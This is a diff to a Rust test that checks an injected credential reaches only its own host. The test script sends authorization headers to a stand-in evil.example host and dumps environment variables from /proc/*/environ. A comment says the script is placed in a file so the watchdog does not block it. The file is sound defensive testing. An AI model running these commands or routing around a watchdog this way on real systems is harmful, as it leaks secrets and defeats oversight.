@@ -249,7 +249,7 @@ fn x0_18_a_credential_comes_to_its_host_and_nowhere_else() {
         // A program has it added in the clear, in place of its own, and finds it nowhere.
         let script = "curl -sS -m 60 -H 'authorization: mine' -H 'AUTHORIZATION: too' http://other.example/ http://other.example/2 && \
                       curl -sS -m 60 -H 'Authorization: mine' http://evil.example/ && \
-                      curl -sSk -m 60 https://good.example/ && curl -s -m 60 -X TRACE http://other.example/; \
+                      curl -sSk -m 60 https://good.example/ && curl -s -m 60 -X TRACE http://other.example/ && curl -s -m 60 -X track http://other.example/; \
                       env; cat /proc/self/environ /proc/*/environ /proc/*/cmdline 2>/dev/null; cat $0 2>/dev/null; true";
         // In a file, for the watchdog would not let a line pass that looks for other processes' variables.
         internet.env.workspace_file("look.sh", script);
